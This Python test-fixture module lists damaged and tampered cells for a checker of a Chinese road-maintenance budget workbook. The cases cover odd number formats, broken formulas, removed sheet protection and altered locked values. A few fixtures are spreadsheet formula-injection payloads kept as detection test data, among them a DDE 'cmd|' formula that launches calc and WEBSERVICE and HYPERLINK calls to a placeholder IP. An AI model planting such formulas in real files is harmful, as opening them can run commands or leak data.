"""Damage within cells: what people type and paste, and what they change although it is locked."""

from __future__ import annotations

from damage import ANALYSIS, BASICS, FUNDS, TABLE, Kind, kind, typed
from surgery import MAIN, Patient

from workbook_tools.form.layout import TABS

LONG = "".join(f"{number}号路段雨后塌方清理较慢，原因是养护机械不足；" for number in range(1, 2000))
"""A text that never repeats a sentence."""

TYPED = (
    # -- figures as people write them -----------------------------------------------------------------------------
    typed("amount_with_unit", FUNDS, "H8", "120万元", "FILL05"),
    typed("amount_in_yuan", FUNDS, "H8", "1200000元", "FILL05"),
    typed("full_width_percentage", TABLE, "E14", "９６％", "FILL05", "FILL21"),
    typed("a_blank_without_width", ANALYSIS, "B10", "由公路段\u200b三月底前增租一台装载机。", "FILL41"),
    typed("blanks_around", TABLE, "E13", " 1020 ", "FILL05", "FILL21"),
    typed("full_width_blanks_around", TABLE, "E13", "　1020　", "FILL05", "FILL21"),
    typed("thousands_separator", TABLE, "E13", "1,020.00", "FILL05", "FILL21"),
    typed("full_width_thousands_separator", TABLE, "E13", "１，０２０", "FILL05", "FILL21"),
    typed("the_targets_own_unit", TABLE, "E13", "1020公里", "FILL05", "FILL21"),
    typed("the_same_length_in_another_unit", TABLE, "E13", "1020000米", "FILL05", "FILL21"),
    typed("thousands_of_the_unit", TABLE, "E13", "1.02千公里", "FILL05", "FILL21"),
    typed("ten_thousands_without_unit", TABLE, "E13", "0.102万", "FILL06", "FILL21"),
    typed("another_unit", TABLE, "E13", "1020亩", "FILL06", "FILL21"),
    typed("a_comparison_copied_from_the_target", TABLE, "E14", "≥96%", "FILL20", "FILL21"),
    typed("percentage_as_points", TABLE, "E14", 96.0, "FILL05"),
    typed("percentage_as_text", TABLE, "E14", "96%", "FILL05", "FILL21"),
    typed("percentage_as_points_in_text", TABLE, "E14", "96", "FILL05", "FILL21"),
    typed("percentage_as_fraction_in_text", TABLE, "E14", "0.96", "FILL05", "FILL21"),
    typed("one_in_text_for_a_percentage", TABLE, "E14", "1", "FILL02", ("TEXT20", ANALYSIS, "B9"), total=80.0),
    typed("completion_as_points", TABLE, "G16", 100.0, "FILL05"),
    # -- what is no figure ----------------------------------------------------------------------------------------
    typed("about", TABLE, "E13", "约1020", "FILL02", total=80.0),
    typed("or_so", TABLE, "E13", "1020左右", "FILL02", total=80.0),
    typed("more_than", TABLE, "E13", "1000多公里", "FILL02", total=80.0),
    typed("a_range", TABLE, "E13", "1000-1020", "FILL02", total=80.0),
    typed("comma_as_decimal_point", TABLE, "E13", "1020,5", "FILL02", total=80.0),
    typed("chinese_numeral", TABLE, "E13", "一千零二十", "FILL02", total=80.0),
    typed("raised_digit", TABLE, "E13", "10²", "FILL02", total=80.0),
    typed("a_dash_for_nothing", FUNDS, "H8", "—", "FILL02", ("FUND01", FUNDS, "H9")),
    typed("a_truth_value", TABLE, "E13", True, "FILL02", total=80.0),
    typed("only_blanks", TABLE, "E13", "　 ", "FILL01", total=80.0),
    typed("a_negative_amount", FUNDS, "H9", -5.0, "FILL03", ("FUND04", FUNDS, "C16"), total=91.67),
    typed("not_in_the_list", TABLE, "F16", "完成", "FILL04"),
    typed("in_the_list_but_for_blanks", TABLE, "F16", " 达成 "),
    typed("a_telephone_number_as_number", BASICS, "B9", 13935001234.0),
    # -- formulas and errors ----------------------------------------------------------------------------------------
    typed("a_sum_as_formula", TABLE, "E13", 1020.0, "FILL16", formula="1000+20"),
    typed("a_formula_never_calculated", TABLE, "E13", None, "FILL16", "FILL01", total=80.0, formula="1000+20"),
    typed("a_formula_with_an_error", TABLE, "E13", None, "FILL18", total=80.0, formula="1020/0", error="#DIV/0!"),
    typed("an_error_as_value", TABLE, "E13", None, "FILL18", total=80.0, error="#N/A"),
    typed("a_text_taken_for_a_formula", ANALYSIS, "B9", None, "FILL18", formula="-养护机械不足", error="#NAME?"),
    typed("a_formula_from_another_workbook", TABLE, "E13", 1020.0, "FILL17", formula="[1]Sheet1!$A$1"),
    typed("a_formula_from_the_net", TABLE, "E13", 1020.0, "FILL17", formula='WEBSERVICE("http://203.0.113.5/"&amp;D13)'),
    typed("a_formula_that_starts_a_program", ANALYSIS, "B10", "由公路段三月底前增租一台装载机。", "FILL17", formula="cmd|'/C calc'!A0"),
    # -- texts ------------------------------------------------------------------------------------------------------
    typed("a_text_that_begins_with_equals", ANALYSIS, "B9", "=HYPERLINK(\"http://203.0.113.5\",\"养护机械不足，清理较慢\")", "FILL12"),
    typed("a_text_that_begins_with_plus", ANALYSIS, "B9", "+山区两条乡道雨后塌方清理较慢，原因是养护机械不足。", "FILL12"),
    typed("a_text_that_begins_with_minus", ANALYSIS, "B9", "-山区两条乡道雨后塌方清理较慢，原因是养护机械不足。", "FILL12"),
    typed("a_text_that_begins_with_at", ANALYSIS, "B9", "@SUM(1+1)*cmd|' /C calc'!A0，原因是养护机械不足。", "FILL12"),
    typed("a_long_text", ANALYSIS, "B9", LONG[:5000]),
    typed("a_text_beyond_excels_limit", ANALYSIS, "B9", LONG[:40000], "FILL19"),
    typed("a_reason_beyond_excels_limit", TABLE, "J13", LONG[:40000], "FILL19"),
)  # fmt: skip


@kind(("FILL02", TABLE, "E13"), total=80.0)
def a_date_for_a_number(patient: Patient) -> None:
    """Excel makes a date of 3/4."""
    patient.put(TABLE, "E13", 45355.0)
    patient.restyle(TABLE, "E13", number_format=14)


@kind()
def a_date_for_a_date(patient: Patient) -> None:
    """The day of filling in as a real date."""
    patient.put(BASICS, "B10", 45667.0)
    patient.restyle(BASICS, "B10", number_format=14)


# -- formats ------------------------------------------------------------------------------------------------------------


@kind(("TAMPER10", TABLE, "E13"))
def pasted_over(patient: Patient) -> None:
    """Pasting brings the locked format of the source and takes the validation away."""
    for cell in ("E13", "H13"):
        patient.restyle(TABLE, cell, locked=True)
    patient.remove_validation(TABLE, "E13")


@kind(("TAMPER10", FUNDS, "E8"), ("TAMPER10", TABLE, "E13"))
def validations_gone(patient: Patient) -> None:
    """Some libraries drop all validations."""
    for title in patient.titles:
        patient.remove(title, "dataValidations")


@kind()
def prompts_gone(patient: Patient) -> None:
    """Only the prompts went; lists and limits are there."""
    for title in patient.titles:
        for item in patient.sheet(title).iter(f"{{{MAIN}}}dataValidation"):
            for attribute in ("prompt", "promptTitle", "showInputMessage"):
                item.attrib.pop(attribute, "")


@kind(("TAMPER06", TABLE, ""))
def one_sheet_unprotected(patient: Patient) -> None:
    """Someone found the password, or used a program that ignores it."""
    patient.remove(TABLE, "sheetProtection")


@kind(*(("TAMPER06", title, "") for title in TABS))
def all_sheets_unprotected(patient: Patient) -> None:
    """An "unlock" tool takes every protection away."""
    for title in patient.titles:
        patient.remove(title, "sheetProtection")


@kind()
def columns_widened(patient: Patient) -> None:
    """Widths may be changed, also on a protected sheet."""
    for column in patient.sheet(TABLE).iter(f"{{{MAIN}}}col"):
        column.set("width", "60")


@kind(("TAMPER24", TABLE, "B13"))
def rows_hidden(patient: Patient) -> None:
    """Hidden rows count as the others do, and nobody sees them."""
    for row in patient.sheet(TABLE).iter(f"{{{MAIN}}}row"):
        if row.get("r") in ("13", "14"):
            row.set("hidden", "1")


@kind()
def merged_cells_split(patient: Patient) -> None:
    """The content stays in the first cell."""
    patient.remove(TABLE, "mergeCells")


# -- what is locked -------------------------------------------------------------------------------------------------------


TAMPERED = (
    typed("weight_changed", TABLE, "H13", 30.0, "TAMPER02"),
    typed("target_lowered", TABLE, "D13", 900.0, "TAMPER02"),
    typed("target_as_text", TABLE, "D13", "≥1000", "TAMPER02"),
    typed("target_emptied", TABLE, "D13", None, "TAMPER02"),
    typed("indicator_renamed", TABLE, "C13", "养护里程（含村道）", "TAMPER02"),
    typed("project_renamed", BASICS, "B3", "农村道路养护经费（二期）", "TAMPER02"),
    typed("budget_changed", FUNDS, "H7", 110.0, "TAMPER02"),
    typed("score_formula_changed", TABLE, "I13", 20.0, "TAMPER03", formula="H13"),
    typed("score_typed", TABLE, "I13", 20.0, "TAMPER03"),
    typed("total_typed", TABLE, "I18", 100.0, "TAMPER03"),
    typed("formula_emptied", TABLE, "I18", None, "TAMPER03"),
    typed("error_in_a_formula_cell", TABLE, "I13", None, formula='IF(ISNUMBER(G13),ROUND(ROUND(H13*MIN(1,G13),9),2),"")', error="#VALUE!"),
    typed("blanks_around_a_locked_text", TABLE, "C13", " 养护里程 "),
)  # fmt: skip


@kind(
    *(("TAMPER02", TABLE, f"{column}{row}") for row in (14, 15) for column in "BCD"),
    ("SCORE04", TABLE, "E14"),
    ("SCORE15", TABLE, "E14"),
)
def two_rows_swapped(patient: Patient) -> None:
    """Someone unprotects the sheet and brings the rows into an order of his own."""
    for column in "BCDE":
        patient.swap(TABLE, f"{column}14", f"{column}15")


FORMATS: tuple[Kind, ...] = (
    a_date_for_a_number,
    a_date_for_a_date,
    pasted_over,
    validations_gone,
    prompts_gone,
    one_sheet_unprotected,
    all_sheets_unprotected,
    columns_widened,
    rows_hidden,
    merged_cells_split,
    two_rows_swapped,
)
CELLS: tuple[Kind, ...] = (*TYPED, *FORMATS, *TAMPERED)
